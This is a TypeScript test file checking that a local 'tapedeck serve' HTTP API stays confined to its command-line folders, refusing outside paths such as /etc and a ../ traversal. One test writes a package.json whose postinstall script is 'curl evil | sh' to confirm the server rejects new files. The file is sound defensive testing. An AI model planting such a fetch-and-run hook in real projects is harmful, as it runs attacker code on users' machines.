/**
 * `tapedeck serve` reads and writes only inside the folders given on its command line (issue
 * #13.7): its API is reachable by a web page, so a path in a request is not the person's choice.
 * Real server on 127.0.0.1, real HTTP requests, real folders.
 */
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Backend } from '../../../main/backend/backend';
import { serveBackend } from '../../../main/cli/serve-command';
import { startHttpServer, type RunningServer } from '../../../main/server/http-server';
import { goVcr } from '../workspace/helpers';
import { stubRenderer } from './stub-renderer';

let base: string;
let folder: string;
let backend: Backend;
let server: RunningServer;

beforeAll(async () => {
  const dirs = stubRenderer('tapedeck-serve-confine-');
  base = dirs.base;
  const rendererDir = dirs.rendererDir;
  folder = join(base, 'cassettes');
  mkdirSync(join(folder, 'sub'), { recursive: true });
  writeFileSync(join(folder, 'a.yaml'), goVcr([{}]));
  writeFileSync(join(folder, 'sub', 'b.yaml'), goVcr([{}]));
  mkdirSync(join(base, 'project'));
  writeFileSync(join(base, 'project', 'old.yaml'), goVcr([{}]));
  backend = await serveBackend([folder], join(base, 'config'), 1);
  server = await startHttpServer(backend, { rendererDir });
});
afterAll(async () => {
  await server?.close();
  await backend?.close();
  rmSync(base, { recursive: true, force: true });
});

function call(name: string, ...args: unknown[]): Promise<{ ok: boolean; value?: any; error?: { code: string; message: string } }> {
  return new Promise((resolve, reject) => {
    const body = JSON.stringify({ args });
    const req = request(
      { host: '127.0.0.1', port: server.port, path: `/${server.token}/api/call/${name}`, method: 'POST', headers: { host: `127.0.0.1:${server.port}`, 'content-type': 'application/json' } },
      (res) => {
        let text = '';
        res.on('data', (d) => (text += d));
        res.on('end', () => resolve(JSON.parse(text)));
      },
    );
    req.on('error', reject);
    req.end(body);
  });
}

describe('tapedeck serve: confined to the folders on its command line', () => {
  it('refuses to open a folder or file outside them', async () => {
    for (const p of ['/etc', join(base, 'project'), join(base, 'project', 'old.yaml'), base, `${folder}/../project`]) {
      const r = await call('openPath', p);
      expect(r.ok, p).toBe(false);
      expect(r.error?.code, p).toBe('path.outside-workspace');
    }
    const ws = await call('getWorkspace');
    expect(ws.value.roots.map((r: { path: string }) => r.path)).toEqual([folder]);
  });

  it('still opens a file inside them (it is selected in its folder)', async () => {
    const r = await call('openPath', join(folder, 'sub', 'b.yaml'));
    expect(r.ok).toBe(true);
    expect(r.value.initialSelection.relPath).toBe('sub/b.yaml');
  });

  it('lists no recent folders (they would name folders a page may not open)', async () => {
    expect(await call('getRecentFolders')).toEqual({ ok: true, value: [] });
  });

  it('never creates a new file, e.g. a package.json with a postinstall script', async () => {
    const { value: ws } = await call('getWorkspace');
    const pkg = JSON.stringify({ log: { entries: [] }, scripts: { postinstall: 'curl evil | sh' } });
    const r = await call('saveCassette', { rootId: ws.roots[0].id, relPath: 'package.json', content: pkg, encoding: 'utf8', baseRevision: '', force: true, allowInvalid: true });
    expect(r.error?.code).toBe('file.not-found');
    expect(existsSync(join(folder, 'package.json'))).toBe(false);
  });

  it('saves an existing cassette inside them', async () => {
    const { value: ws } = await call('getWorkspace');
    const ref = { rootId: ws.roots[0].id, relPath: 'a.yaml' };
    const file = await call('readCassette', ref);
    const r = await call('saveCassette', { ...ref, content: goVcr([{}, {}]), encoding: 'utf8', baseRevision: file.value.revision });
    expect(r.value.status).toBe('saved');
    expect(readFileSync(join(folder, 'a.yaml'), 'utf8')).toBe(goVcr([{}, {}]));
  });
});
